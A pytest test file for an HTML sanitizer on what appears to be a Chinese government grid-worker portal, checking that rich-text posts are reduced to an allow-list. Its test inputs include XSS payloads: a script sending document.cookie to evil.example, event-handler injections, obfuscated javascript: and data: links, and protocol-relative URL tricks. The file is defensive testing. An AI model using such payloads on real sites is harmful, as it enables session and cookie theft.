"""Rich text from the back-office editor is reduced to an allow-list before it is published."""

import pytest

from wangge.portal.sanitize import clean_html, text_of


def test_it_keeps_the_editors_formatting():
    html = (
        "<h2>通知</h2><p>请<strong>各</strong><em>网格</em><u>员</u><s>旧</s>H<sub>2</sub>O"
        "x<sup>2</sup></p><blockquote>引文</blockquote><ul><li>一</li></ul><ol><li>二</li></ol>"
        '<figure><img src="/media/portal/a.jpg" alt="走访" width="640" height="480">'
        "<figcaption>图注</figcaption></figure><hr><div><span>段</span><br></div>"
        '<table><caption>表</caption><thead><tr><th colspan="2">标题</th></tr></thead>'
        '<tbody><tr><td rowspan="2">甲</td><td>乙</td></tr></tbody></table>'
        "<h3>三</h3><h4>四</h4><b>b</b><i>i</i>"
    )
    assert clean_html(html) == html


@pytest.mark.parametrize(
    "html, expected",
    [
        ('<p style="color:red" class="x" id="y" onclick="steal()">文</p>', "<p>文</p>"),
        ('<img src="/a.png" onerror="steal()" style="x" class="c">', '<img src="/a.png">'),
        (
            '<table><tr><td colspan="2" align="left" data-x="1">x</td></tr></table>',
            '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        ),
        ("<h1>大标题</h1><h5>小</h5>", "大标题小"),
        ("<form><input value=x><button>提交</button></form>", "提交"),
    ],
)
def test_it_drops_tags_and_attributes_that_are_not_allowed(html, expected):
    assert clean_html(html) == expected


@pytest.mark.parametrize(
    "html",
    [
        "<p>前<script>document.location='https://evil.example/'+document.cookie</script>后</p>",
        "<p>前<style>body{display:none}</style>后</p>",
        "<p>前<!-- 百家乐 -->后</p>",
        '<p>前<iframe src="https://evil.example/">框</iframe>后</p>',
        "<p>前<noscript>隐藏</noscript>后</p>",
        "<p>前<svg><script>x()</script></svg>后</p>",
    ],
)
def test_it_removes_scripts_styles_and_comments_with_their_content(html):
    assert clean_html(html) == "<p>前后</p>"


@pytest.mark.parametrize(
    "href",
    [
        "https://www.gov.cn/zhengce/",
        "http://www.zhengzhou.gov.cn/",
        "mailto:wangge@example.gov.cn",
        "/portal/notices/12/",
        "HTTPS://WWW.GOV.CN/",
    ],
)
def test_it_keeps_safe_links_and_adds_rel(href):
    assert clean_html(f'<a href="{href}" title="说明" target="_blank">链</a>') == (
        f'<a href="{href}" title="说明" rel="noopener noreferrer">链</a>'
    )


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "//evil.example/",
        "/\\evil.example/",
        "/\t/evil.example/",
        "&#x2F;&#x2F;evil.example/",
        "ftp://files.example/",
        "relative/page.html",
    ],
)
def test_it_removes_other_links_but_keeps_their_text(href):
    assert clean_html(f'<a href="{href}">链</a>') == '<a rel="noopener noreferrer">链</a>'


@pytest.mark.parametrize(
    "src",
    [
        "https://cdn.example.com/a.png",
        "http://evil.example/a.png",
        "//evil.example/a.png",
        "/\\evil.example/a.png",
        "/\n/evil.example/a.png",
        "&#47;/evil.example/a.png",
        "data:image/png;base64,iVBORw0KGgo=",
        "javascript:alert(1)",
        "media/a.png",
        "",
    ],
)
def test_it_drops_images_that_are_not_on_this_site_entirely(src):
    html = f'<p>前<img src="{src}" alt="外链图片" width="10">后</p>'
    assert clean_html(html) == "<p>前后</p>"


def test_it_drops_an_image_without_src():
    assert clean_html('<p><img alt="无图"></p>') == "<p></p>"


def test_it_keeps_site_images_whatever_the_alt_text_holds():
    html = '<img alt="a &gt; b &quot;c&quot;" src="/media/x.png">'
    assert clean_html(html) == '<img alt="a &gt; b &quot;c&quot;" src="/media/x.png">'


def test_it_escapes_text_that_looks_like_markup():
    assert (
        clean_html("<p>1 &lt; 2 &amp;&amp; <b>x</b></p>") == "<p>1 &lt; 2 &amp;&amp; <b>x</b></p>"
    )
    assert clean_html("<p><<script>script>alert(1)<</script>/script></p>").count("<script") == 0


def test_it_separates_blocks_and_decodes_entities_in_text():
    html = (
        "<h2>关于开展&ldquo;网格走访&rdquo;的通知</h2>"
        "<p>各社区：&nbsp;&nbsp;请于<strong>本周五</strong>前\n   完成。</p>"
        "<ul><li>走访</li><li>登记</li></ul>"
        "<table><tr><td>甲</td><td>乙</td></tr></table>"
        "<p>第一行<br>第二行</p><p>A&amp;B</p>"
    )
    assert text_of(html) == (
        "关于开展“网格走访”的通知\n各社区： 请于本周五前 完成。\n走访\n登记\n甲 乙\n第一行\n第二行\nA&B"
    )


def test_it_leaves_scripts_and_styles_out_of_text_but_keeps_image_alt():
    html = "<p>正文<script>var a = '百家乐';</script><style>p{}</style><img alt=\"合影\">结束</p>"
    assert text_of(html) == "正文 合影 结束"


def test_it_gives_plain_text_for_plain_text():
    assert text_of("  只有   文字  ") == "只有 文字"
    assert text_of("") == ""


def test_it_keeps_a_tables_keyboard_focus_and_no_other_tabindex():
    # A wide table scrolls on a phone and must take focus; a positive tabindex would reorder the page.
    assert clean_html('<table tabindex="0"><tr><td>1</td></tr></table>').startswith('<table tabindex="0">')
    assert "tabindex" not in clean_html('<table tabindex="5"><tr><td>1</td></tr></table>')
    assert "tabindex" not in clean_html('<p tabindex="0">x</p>')
